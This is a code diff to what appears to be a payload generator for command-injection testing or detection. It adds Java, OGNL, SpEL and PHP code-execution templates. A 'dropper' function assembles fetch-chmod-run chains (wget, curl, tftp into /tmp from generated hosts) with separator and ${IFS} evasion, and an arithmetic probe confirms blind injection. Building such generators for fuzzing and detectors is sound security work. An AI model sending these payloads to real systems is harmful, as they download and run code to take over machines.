@@ -22,6 +22,10 @@ const FORMS: readonly Grammar[] = [
   windowsInjection,
   windowsInjection,
   codeCall,
+  codeCall,
+  dropper,
+  dropper,
+  arithmeticProbe,
   shellshock,
   serverSideInclude,
   bareCommand,
@@ -298,8 +302,72 @@ function codeCall(random: Random): string {
     () => `{\${system(${mark}${line}${mark})}}`,
     () => `IO.popen(${mark}${line}${mark}).read`,
     () => `%x(${line})`,
+    () => `%{(#a=@java.lang.Runtime@getRuntime().exec(${mark}${line}${mark}))}`,
+    () => `T(java.lang.Runtime).getRuntime().exec(${mark}${line}${mark})`,
+    () => `s=call_user_func_array&vars[0]=system&vars[1][]=${encodeURIComponent(line)}`,
+    () => `@eval(system(${mark}${line}${mark}))`,
+    () => `assert(${mark}system('id')${mark})`,
+    () =>
+      `new java.lang.ProcessBuilder(${mark}sh${mark},${mark}-c${mark},${mark}${line}${mark}).start()`,
+    () => `open(${mark}|${line}${mark})`,
   ])
   return `${random.pick(["", "", ";", "');", '";', "${@", "|"])}${call}${random.pick(["", ";", ";//", "}", ";#"])}`
+}
+
+/** Fetch, make executable, run: how a machine is taken over by one request. */
+function dropper(random: Random): string {
+  const [file, host] = [identifier(random), hostName(random)]
+  const directory = random.pick(["/tmp", "/var/tmp", "/dev/shm", "/var/run", "/", "/mnt"])
+  const tool = random.pick(["", "/bin/busybox ", "busybox "])
+  const steps = [
+    `cd ${directory}`,
+    random.pick(["rm -rf *", `rm -rf ${file}`, `rm -f ${file}*`, ""]),
+    random.pick([
+      `${tool}wget http://${host}/${file}`,
+      `${tool}wget${random.pick(["", " -q"])} http://${host}/${file} -O ${directory}/${file}`,
+      `curl -O http://${host}/${file}`,
+      `tftp -g -r ${file} ${host}`,
+      `ftpget -u anonymous ${host} ${file} ${file}`,
+    ]),
+    random.pick([`chmod 777 ${file}`, `chmod +x ${file}`, "chmod 777 *", ""]),
+    random.pick([
+      `./${file}`,
+      `sh ${file}`,
+      `./${file} ${identifier(random)}`,
+      `sh ${file} &`,
+      `rm -rf ${file}`,
+    ]),
+  ].filter((step) => step !== "")
+  const line = steps.join(random.pick(["; ", ";", " && ", "&&", "%3B", "%20%26%26%20", "|"]))
+  const spelled = line.replaceAll(" ", random.pick([" ", " ", "+", "%20", "${IFS}"]))
+  const [open, close] = random.pick([
+    [";", ""],
+    ["`", "`"],
+    ["$(", ")"],
+    ["|", ""],
+    ["", ""],
+    ["';", ";'"],
+    ["&", "&"],
+    ["\n", "\n"],
+  ] as const)
+  return `${hostValue(random)}${open}${spelled}${close}`
+}
+
+/** Makes the shell compute: the answer proves that one ran. */
+function arithmeticProbe(random: Random): string {
+  const [left, right] = [random.below(10_000), random.below(10_000)]
+  const probe = random.pick([
+    `expr ${left} ${random.pick(["+", "-", "\\*"])} ${right}`,
+    `echo $((${left}${random.pick(["+", "*", "-"])}${right}))`,
+    `echo ${identifier(random)}|md5sum`,
+    `printf %d $((${left}+${right}))`,
+    `let x=${left}+${right};echo $x`,
+    `set /a (${left}+${right})`,
+    `if [ ${left} -lt ${right} ]; then sleep ${random.between(1, 9)}; fi`,
+  ])
+  const spelled = random.chance(0.4) ? encodeURIComponent(probe) : probe
+  const joint = `${random.pick(["", "'", '"'])}${separator(random)}`
+  return `${hostValue(random)}${joint}${spelled}${trailer(random)}`
 }
 
 function shellshock(random: Random): string {
